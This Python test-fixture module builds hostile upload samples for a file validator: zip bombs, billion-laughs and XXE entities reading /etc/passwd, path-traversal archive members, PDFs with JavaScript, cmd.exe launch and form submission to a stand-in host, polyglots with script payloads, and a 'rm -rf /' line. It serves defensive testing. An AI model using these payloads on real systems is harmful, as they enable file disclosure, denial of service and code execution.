"""Files made to harm: bombs, entities, macros, disguises, hidden text, cut and swollen files. All are made here; none is kept."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from collections.abc import Iterator

from PIL import Image

from droits_ouverts.foundation.fichiers import OCTETS

TYPES = '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>'
BOOK = '<?xml version="1.0"?><workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"/>'
SHEET = "xl/worksheets/sheet1.xml"
XXE = '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>'
LAUGHS = "<!DOCTYPE x [" + '<!ENTITY a0 "ha">' + "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 10)) + "]>"


def sheet(rows: str, before: str = "") -> str:
    return f'<?xml version="1.0"?>{before}<worksheet><sheetData>{rows}</sheetData></worksheet>'


def book(members: dict[str, str | bytes], level: int = zipfile.ZIP_DEFLATED) -> bytes:
    """A workbook with these files, besides those that every one has."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", level) as archive:
        for name, content in ({"[Content_Types].xml": TYPES, "xl/workbook.xml": BOOK} | members).items():
            archive.writestr(name, content)
    return out.getvalue()


def good_book() -> bytes:
    return book(
        {
            SHEET: sheet(
                '<row r="1"><c r="A1" t="s"><v>0</v></c><c r="C1"><f>1+1</f><v>2</v></c></row><row r="2"><c r="A2" t="inlineStr"><is><t>Été</t></is></c></row>'
            ),
            "xl/sharedStrings.xml": "<sst><si><t>Pré</t><t>nom</t></si></sst>",
        }
    )


def image(kind: str = "JPEG", size: tuple[int, int] = (40, 20), **options: object) -> bytes:
    out = io.BytesIO()
    Image.new("RGB", size, (200, 30, 30)).save(out, kind, **options)
    return out.getvalue()


def pdf(extra: bytes = b"", tail: bytes = b"%%EOF\n") -> bytes:
    return (
        b"%PDF-1.7\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj\n3 0 obj<</Type/Page>>endobj\n" + extra + tail
    )


def chunk(name: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + name + data + struct.pack(">I", zlib.crc32(name + data))


def png_of(width: int, height: int, data: bytes = b"") -> bytes:
    """A PNG that announces a size, whatever it holds."""
    head = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", data or zlib.compress(b"")) + chunk(b"IEND", b"")


def lying_archive() -> bytes:
    """An archive whose directory says that a file is small."""
    content = book({SHEET: sheet("<row/>" * 2_000_000)})
    real = struct.pack("<I", len(sheet("<row/>" * 2_000_000)))
    return content.replace(real, struct.pack("<I", 100))


def hostiles() -> Iterator[tuple[str, bytes]]:
    """Each hostile file with its name."""
    yield from _tables()
    yield from _books()
    yield from _pdfs()
    yield from _images()


def _tables() -> Iterator[tuple[str, bytes]]:
    yield "empty", b""
    yield "one byte too long", b"a" * (OCTETS + 1)
    yield "a million columns", b";" * 1_000_000
    yield "257 columns", b";".join([b"a"] * 257)
    yield "too many rows", b"a\n" * 60_000
    yield "a cell of a million letters", b"a;" + b"b" * 1_000_000
    yield "a quote that never ends", b'a;"' + b"b" * 100
    yield "a quote then letters", b'a;"b"c\n'
    yield "nul", b"a;b\x00c\n"
    yield "bell and escape", b"a;\x1b[31mb\x07\n"
    yield "utf-16", "prénom;nom\n".encode("utf-16")
    yield "latin-1", "prénom;nom\n".encode("latin-1")
    yield "a lone surrogate", b"a;\xed\xa0\x80\n"
    yield "overlong slash", b"a;\xc0\xaf\n"
    yield "a character that is none", "a;\U0010ffff\n".encode()
    for name, sign in (("rlo", "\u202e"), ("lro", "\u202d"), ("rli", "\u2067"), ("pdi", "\u2069")):
        yield f"bidi {name}", f"a;fichier{sign}txt.exe\n".encode()
    for name, text in (
        ("html", "<html><script>alert(1)</script>"),
        ("html after spaces", "\n \t<!doctype html><p>a;b"),
        ("svg", "<svg onload=alert(1)>"),
        ("xml with entities", f"<?xml version='1.0'?>{XXE}<a>&e;</a>"),
        ("rtf", "{\\rtf1 a;b}"),
        ("json", '{"a": 1}'),
        ("script", "#!/bin/sh\nrm -rf /"),
        ("postscript", "%!PS-Adobe"),
        ("gif", "GIF89a;b"),
        ("html after a mark of order", "\ufeff<html>"),
    ):
        yield f"a table that is {name}", text.encode()
    yield "an executable", b"MZ\x90\x00\x03" + b"\x00" * 100
    yield "an elf", b"\x7fELF\x02\x01\x01" + b"\x00" * 100
    yield "ole", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 512


def _books() -> Iterator[tuple[str, bytes]]:
    yield "zip bomb", book({SHEET: sheet("<row/>" * 12_000_000)})
    yield "zip bomb whose directory lies", lying_archive()
    yield "too many files", book({f"xl/a{n}.xml": "" for n in range(400)})
    yield "entity of a file", book({SHEET: sheet("<row><c><v>&e;</v></c></row>", XXE)})
    yield "entity of the network", book({SHEET: sheet("<row/>", '<!DOCTYPE x SYSTEM "http://exemple.test/x.dtd">')})
    yield "billion laughs", book({SHEET: sheet("<row><c><v>&a9;</v></c></row>", LAUGHS)})
    yield "billion laughs in the types", book({"[Content_Types].xml": f"{LAUGHS}<Types>&a9;</Types>", SHEET: sheet("")})
    yield "billion laughs in the texts", book({SHEET: sheet(""), "xl/sharedStrings.xml": f"{LAUGHS}<sst><si><t>&a9;</t></si></sst>"})
    yield "a processing instruction", book({SHEET: sheet("", "<?xml-stylesheet href='http://exemple.test/'?>")})
    yield "deep nesting", book({SHEET: "<a>" * 5_000 + "</a>" * 5_000})
    yield "a column far away", book({SHEET: sheet('<row><c r="XFD1"><v>1</v></c></row>')})
    yield "a million cells", book({SHEET: sheet("<row>" + "<c><v>1</v></c>" * 1_000_000 + "</row>")})
    yield "too many rows of a workbook", book({SHEET: sheet("<row/>" * 60_000)})
    yield "a cell too long", book({SHEET: sheet(f"<row><c><v>{'a' * 100_000}</v></c></row>")})
    yield "a text that is not there", book({SHEET: sheet('<row><c t="s"><v>7</v></c></row>')})
    yield "a text that is no number", book({SHEET: sheet('<row><c t="s"><v>x</v></c></row>')})
    yield "xml cut", book({SHEET: sheet("<row>")[:-30]})
    yield "a macro", book({"xl/vbaProject.bin": b"\x00", SHEET: sheet("")})
    yield "a link outside", book({"xl/externalLinks/externalLink1.xml": "<a/>", SHEET: sheet("")})
    yield "a connection", book({"xl/connections.xml": "<a/>", SHEET: sheet("")})
    yield "an object inside", book({"xl/embeddings/oleObject1.bin": b"\x00", SHEET: sheet("")})
    yield "an archive inside", book({"xl/a.zip": b"PK", SHEET: sheet("")})
    yield "a path that climbs", book({"../../etc/cron.d/x": "", SHEET: sheet("")})
    yield "a path from the root", book({"/etc/passwd": "", SHEET: sheet("")})
    yield "a windows path", book({"C:\\x.xml": "", SHEET: sheet("")})
    yield "the same name twice by case", book({"XL/WORKBOOK.XML": BOOK, SHEET: sheet("")})
    yield "an archive that is no workbook", _plain_archive()
    yield "an archive cut", good_book()[:-40]
    yield "an archive with a changed byte", _changed(good_book())


def _plain_archive() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("a.txt", "a")
    return out.getvalue()


def _changed(content: bytes) -> bytes:
    place = content.index(b"xl/worksheets") + 40
    return content[:place] + bytes([content[place] ^ 0xFF]) + content[place + 1 :]


def _pdfs() -> Iterator[tuple[str, bytes]]:
    for name, part in (
        ("javascript", b"4 0 obj<</S/JavaScript/JS(app.alert(1))>>endobj\n"),
        ("javascript written in code", b"4 0 obj<</S/#4aavaScript/J#53(app.alert(1))>>endobj\n"),
        ("an action at opening", b"4 0 obj<</OpenAction 5 0 R>>endobj\n"),
        ("a launch", b"4 0 obj<</S/Launch/F(cmd.exe)>>endobj\n"),
        ("a file inside", b"4 0 obj<</Type/EmbeddedFile>>endobj\n"),
        ("a form that leaves", b"4 0 obj<</S/SubmitForm/F(http://exemple.test)>>endobj\n"),
        ("xfa", b"4 0 obj<</XFA 5 0 R>>endobj\n"),
        ("a cipher", b"trailer<</Encrypt 5 0 R>>\n"),
        (
            "javascript in a compressed object",
            b"4 0 obj<</Type/ObjStm/Filter/FlateDecode>>stream\n" + zlib.compress(b"<</S/JavaScript>>") + b"\nendstream endobj\n",
        ),
        ("a bomb", b"4 0 obj<</Type/ObjStm/Filter/FlateDecode>>stream\n" + zlib.compress(b"a" * 60_000_000) + b"\nendstream endobj\n"),
    ):
        yield f"a pdf with {name}", pdf(part)
    yield "a pdf that is an archive too", pdf(tail=b"%%EOF\n" + good_book())
    yield "a pdf that is a page too", pdf(tail=b"%%EOF\n<script>alert(1)</script>")
    yield "a pdf cut", pdf()[:-20]


def _images() -> Iterator[tuple[str, bytes]]:
    yield "an image of a billion points", png_of(60_000, 60_000)
    yield "an image of 30 million points", png_of(6_000, 5_000, zlib.compress(b"\x00" * 1_000_000))
    yield "a thin image", png_of(2_000_000, 1)
    yield "an image without points", png_of(0, 0)
    yield "an image cut", image("PNG")[:-30]
    yield "a photo cut", image(size=(400, 400))[:300]
    yield "a photo that is a page", b"\xff\xd8\xff<html><script>alert(1)</script>"
    yield "an image that is a page", b"\x89PNG\r\n\x1a\n<svg onload=alert(1)>"
    yield "an image with a wrong sum", image("PNG").replace(b"IDAT", b"IDAX")
    yield "a gif said to be a photo", b"\xff\xd8\xffGIF89a" + b"\x00" * 100
